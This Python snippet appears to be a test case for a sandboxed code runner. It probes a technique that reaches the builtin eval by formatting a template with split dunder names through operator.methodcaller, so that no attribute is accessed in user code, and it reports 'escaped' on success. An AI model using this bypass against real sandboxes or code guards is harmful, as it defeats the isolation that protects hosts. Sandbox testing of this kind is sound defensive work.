# technique: operator.methodcaller('format', exit)(tpl) calls str.format from C, no attribute call in user code
# configs: default, stdlib_all
# stdlib_all: in-process — its proof (a builtin) is importable under * through builtins
# Needs `import operator` with nothing allowed; under stdlib * only a runtime guard could stop it.
import operator
u = '_' * 2
tpl = '{0.' + u + 'init' + u + '.' + u + 'globals' + u + '[' + u + 'builtins' + u + '][eval]}'
text = operator.methodcaller('format', exit)(tpl)
if 'built-in function eval' in text:
    return [{'json': {'escaped': text}}]
return [{'json': {'result': text}}]
